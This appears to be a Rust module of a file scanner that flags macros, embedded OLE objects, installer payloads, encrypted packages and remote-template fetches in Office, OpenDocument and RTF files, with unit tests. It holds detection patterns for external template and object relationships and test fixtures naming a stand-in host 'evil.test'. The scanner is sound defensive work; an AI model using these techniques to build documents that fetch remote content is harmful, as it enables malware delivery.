//! What is in an Office document: macros, foreign objects, parts that are fetched.
//!
//! Old documents are compound files ([MS-CFB]): a small file system, of which only the list of names is
//! read, and the first octets of a workbook, where its sheets are listed. New ones are zip archives, of
//! which the names say nearly everything. Rich text is searched for its control words.

use super::octets::{holds, size_at, slice, u16_at};
use crate::domain::danger::Threat;

/// Entries of a compound file's directory that are read.
const MOST: usize = 4_096;
/// Octets of a workbook that are searched for its list of sheets.
const WORKBOOK: usize = 256 * 1024;

/// Whether these octets are a compound file.
pub(super) fn is_compound(bytes: &[u8]) -> bool {
    bytes.starts_with(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
}

/// A compound file.
struct Compound<'a> {
    bytes: &'a [u8],
    /// Octets of a sector.
    sector: usize,
    /// The sectors that hold the table of chains.
    table: Vec<usize>,
}

/// One name in a compound file.
struct Stored {
    name: String,
    class: [u8; 16],
    start: usize,
    size: usize,
}

impl<'a> Compound<'a> {
    fn open(bytes: &'a [u8]) -> Option<Self> {
        let shift = u16_at(bytes, 30)?;
        if !is_compound(bytes) || !matches!(shift, 9 | 12) {
            return None;
        }
        let mut file = Self {
            bytes,
            sector: 1 << shift,
            table: Vec::new(),
        };
        let most = bytes.len() / file.sector + 1;
        file.table = (0..109)
            .filter_map(|n| size_at(bytes, 76 + 4 * n))
            .take_while(|at| *at < most)
            .collect();
        // A large file goes on listing its table elsewhere; each such sector ends with where the next one is.
        let mut more = size_at(bytes, 68)?;
        // One that names itself as the next, and lists nothing, would be read for ever.
        for _ in 0..most {
            if more >= most || file.table.len() >= most {
                break;
            }
            let list = file.sector_at(more)?;
            let last = file.sector - 4;
            file.table
                .extend((0..last / 4).filter_map(|n| size_at(list, 4 * n)).take_while(|at| *at < most));
            more = size_at(list, last)?;
        }
        Some(file)
    }

    fn sector_at(&self, number: usize) -> Option<&'a [u8]> {
        slice(self.bytes, number.checked_add(1)?.checked_mul(self.sector)?, self.sector)
    }

    /// Which sector follows another.
    fn next(&self, number: usize) -> Option<usize> {
        let each = self.sector / 4;
        size_at(self.sector_at(*self.table.get(number / each)?)?, 4 * (number % each))
    }

    /// The octets of a chain of sectors, at most so many.
    fn chain(&self, start: usize, most: usize) -> Vec<u8> {
        let (mut out, mut at) = (Vec::new(), Some(start));
        while let Some(sector) = at.and_then(|number| self.sector_at(number)).filter(|_| out.len() < most) {
            out.extend_from_slice(sector);
            at = at.and_then(|number| self.next(number));
        }
        out.truncate(most);
        out
    }

    fn names(&self) -> Vec<Stored> {
        let Some(start) = size_at(self.bytes, 48) else { return Vec::new() };
        let directory = self.chain(start, MOST * 128);
        let stored = |entry: &[u8]| {
            let length = usize::from(u16_at(entry, 64)?).clamp(2, 64) - 2;
            let units: Vec<u16> = entry.get(..length)?.chunks_exact(2).filter_map(|pair| u16_at(pair, 0)).collect();
            Some(Stored {
                name: String::from_utf16_lossy(&units),
                class: slice(entry, 80, 16)?.try_into().ok()?,
                start: size_at(entry, 116)?,
                size: size_at(entry, 120)?,
            })
        };
        let used = directory
            .chunks_exact(128)
            .filter(|entry| entry.get(66).is_some_and(|kind| *kind != 0));
        used.filter_map(stored).collect()
    }
}

/// What is the matter with a compound file.
pub(super) fn compound(bytes: &[u8]) -> Vec<Threat> {
    /// {000C1084-0000-0000-C000-000000000046}: an installer; …86 is a patch of one.
    const INSTALLER: [u8; 16] = [0x84, 0x10, 0x0c, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];
    let Some(file) = Compound::open(bytes) else { return Vec::new() };
    let names = file.names();
    let mut found = Vec::new();
    let installer = |class: &[u8; 16]| class.get(1..) == INSTALLER.get(1..) && matches!(class.first(), Some(0x82 | 0x84 | 0x86));
    if names.iter().take(1).any(|root| installer(&root.class)) {
        found.push(Threat::Program);
    }
    let has = |wanted: &[&str]| {
        names
            .iter()
            .any(|stored| wanted.iter().any(|name| stored.name.eq_ignore_ascii_case(name)))
    };
    let sheet = || {
        let workbook = names.iter().find(|stored| matches!(stored.name.as_str(), "Workbook" | "Book"));
        // Smaller streams lie in another chain; a workbook is never that small.
        workbook.is_some_and(|stored| stored.size >= 4_096 && has_macro_sheet(&file.chain(stored.start, stored.size.min(WORKBOOK))))
    };
    if has(&["VBA", "_VBA_PROJECT", "_VBA_PROJECT_CUR", "Macros"]) || sheet() {
        found.push(Threat::Macros);
    }
    if has(&["EncryptedPackage"]) {
        found.push(Threat::Locked);
    }
    if has(&["\u{1}Ole10Native"]) {
        found.push(Threat::Embedded);
    }
    found
}

/// Whether a workbook lists a sheet of macros ([MS-XLS] 2.4.28, BoundSheet8: `dt` 1).
fn has_macro_sheet(workbook: &[u8]) -> bool {
    const BOUND_SHEET: u16 = 0x85;
    let mut at = 0;
    while let (Some(kind), Some(length)) = (u16_at(workbook, at), u16_at(workbook, at + 2)) {
        if kind == BOUND_SHEET && workbook.get(at + 9) == Some(&1) {
            return true;
        }
        at += 4 + usize::from(length);
    }
    false
}

/// What the names in a new document's archive say; `read` gives the octets of one.
pub(super) fn package<'a>(names: impl Iterator<Item = &'a str>, mut read: impl FnMut(&str) -> Option<Vec<u8>>) -> Vec<Threat> {
    /// Files of relations and objects that are read.
    const MOST_READ: usize = 50;
    let (mut found, mut left) = (Vec::new(), MOST_READ);
    for name in names {
        let lower = name.to_ascii_lowercase().replace('\\', "/");
        if lower.ends_with("vbaproject.bin") || lower.contains("/macrosheets/") || lower.contains("/intlmacrosheets/") {
            found.push(Threat::Macros);
        }
        // OpenDocument keeps its macros in folders of these names.
        if lower.starts_with("basic/") && lower.ends_with(".xml") && !lower.ends_with("script-lc.xml")
            || lower.starts_with("scripts/") && !lower.ends_with('/')
        {
            found.push(Threat::Macros);
        }
        let (relations, object) = (lower.ends_with(".rels"), lower.contains("oleobject") && lower.ends_with(".bin"));
        if !(relations || object) || left == 0 {
            continue;
        }
        left -= 1;
        let Some(octets) = read(name) else { continue };
        if relations && fetches(&octets) {
            found.push(Threat::Fetches);
        }
        // A foreign object is often a formula or a drawing; a "package" is a file of any kind.
        if object
            && compound(&octets)
                .iter()
                .any(|threat| matches!(threat, Threat::Embedded | Threat::Macros))
        {
            found.push(Threat::Embedded);
        }
    }
    found
}

/// Whether a file of relations makes the document load a template, frame or object from elsewhere.
fn fetches(relations: &[u8]) -> bool {
    let text = String::from_utf8_lossy(relations).to_ascii_lowercase();
    text.split("<relationship ").any(|one| {
        let kind = [
            "/attachedtemplate\"",
            "/oleobject\"",
            "/frame\"",
            "/subdocument\"",
            "/externallink\"",
        ];
        let place = [
            "target=\"http",
            "target=\"\\\\",
            "target=\"file:",
            "target=\"mhtml:",
            "target=\"ftp:",
        ];
        one.contains("targetmode=\"external\"")
            && kind.iter().any(|kind| one.contains(kind))
            && place.iter().any(|place| one.contains(place))
    })
}

/// Whether these octets are rich text; Word takes them by their first four.
pub(super) fn is_rich_text(bytes: &[u8]) -> bool {
    bytes.trim_ascii_start().starts_with(b"{\\rt")
}

/// What is the matter with rich text.
pub(super) fn rich_text(bytes: &[u8]) -> Vec<Threat> {
    let lower = bytes.to_ascii_lowercase();
    let mut found = Vec::new();
    let words: [&[u8]; 5] = [b"\\objdata", b"\\objemb", b"\\objocx", b"\\objupdate", b"\\objautlink"];
    if words.iter().any(|word| holds(&lower, word)) {
        found.push(Threat::Embedded);
    }
    if let Some(at) = memchr::memmem::find(&lower, b"\\*\\template") {
        let target = lower.get(at..lower.len().min(at + 500)).unwrap_or_default();
        let end = memchr::memchr(b'}', target).unwrap_or(target.len());
        let target = target.get(..end).unwrap_or_default();
        if holds(target, b"http") || holds(target, b"\\\\\\\\") || holds(target, b"\\u-") {
            found.push(Threat::Fetches);
        }
    }
    found
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;

    /// A compound file of three sectors: table, directory, and the stream that its second name has.
    pub(in super::super) fn document(names: &[&str]) -> Vec<u8> {
        let mut file = vec![0_u8; 512 * 3];
        file[..8].copy_from_slice(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1");
        file[30] = 9;
        file[48..52].copy_from_slice(&1_u32.to_le_bytes());
        file[68..72].copy_from_slice(&u32::MAX.to_le_bytes());
        file[76..512].fill(0xff);
        file[76..80].copy_from_slice(&0_u32.to_le_bytes());
        file[512..1024].fill(0xff);
        for (name, entry) in names.iter().zip(file[1024..].chunks_mut(128)) {
            let units: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
            entry[..units.len()].copy_from_slice(&units);
            entry[64] = units.len() as u8 + 2;
            entry[66] = 1;
        }
        file
    }

    #[test]
    fn a_compound_file_tells_what_is_in_it() {
        assert_eq!(compound(&document(&["Root Entry", "WordDocument"])), []);
        assert_eq!(compound(&document(&["Root Entry", "Macros", "VBA"])), [Threat::Macros]);
        assert_eq!(compound(&document(&["Root Entry", "EncryptedPackage"])), [Threat::Locked]);
        assert_eq!(compound(&document(&["Root Entry", "\u{1}Ole10Native"])), [Threat::Embedded]);
        let mut installer = document(&["Root Entry"]);
        installer[1024 + 80..1024 + 96].copy_from_slice(&[0x84, 0x10, 0x0c, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]);
        assert_eq!(compound(&installer), [Threat::Program]);
        // A chain that bites its own tail ends by its limit.
        let mut round = document(&["Root Entry", "VBA"]);
        round[512 + 4..512 + 8].copy_from_slice(&1_u32.to_le_bytes());
        assert_eq!(compound(&round), [Threat::Macros]);
        // So does a list of the table that goes on in itself and lists nothing.
        let mut listed = document(&["Root Entry", "VBA"]);
        listed[68..72].copy_from_slice(&0_u32.to_le_bytes());
        listed[512 + 508..1024].copy_from_slice(&0_u32.to_le_bytes());
        assert_eq!(compound(&listed), [Threat::Macros]);
        for len in 0..round.len() {
            let _ = compound(&round[..len]);
        }
    }

    #[test]
    fn a_sheet_of_macros_is_found_among_sheets() {
        let sheet = |kind: u8| [&[0x85, 0, 8, 0, 0, 0, 0, 0, 0][..], &[kind, 1, 0]].concat();
        let begin = [9, 8, 2, 0, 0, 6];
        assert!(has_macro_sheet(&[&begin[..], &sheet(0), &sheet(1)].concat()));
        assert!(!has_macro_sheet(&[&begin[..], &sheet(0), &sheet(2)].concat()));
        assert!(!has_macro_sheet(&[0x85, 0, 0]));
    }

    #[test]
    fn what_is_fetched_or_carried_along_is_seen() {
        let relation = |kind: &str, target: &str| {
            format!(
                "<Relationships><Relationship Id=\"r\" Type=\"http://x/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
            )
        };
        assert!(fetches(relation("attachedTemplate", "https://evil.test/t.dotm").as_bytes()));
        assert!(!fetches(relation("hyperlink", "https://example.org/").as_bytes()));
        assert!(!fetches(relation("attachedTemplate", "Normal.dotm").as_bytes()));
        assert_eq!(rich_text(b"{\\rtf1{\\object\\objemb{\\*\\objdata 00}}}"), [Threat::Embedded]);
        assert_eq!(rich_text(b"{\\rtf1{\\*\\template http://evil.test/x}}"), [Threat::Fetches]);
        assert_eq!(rich_text(b"{\\rtf1{\\*\\template Normal.dotm} http://x}"), []);
    }
}
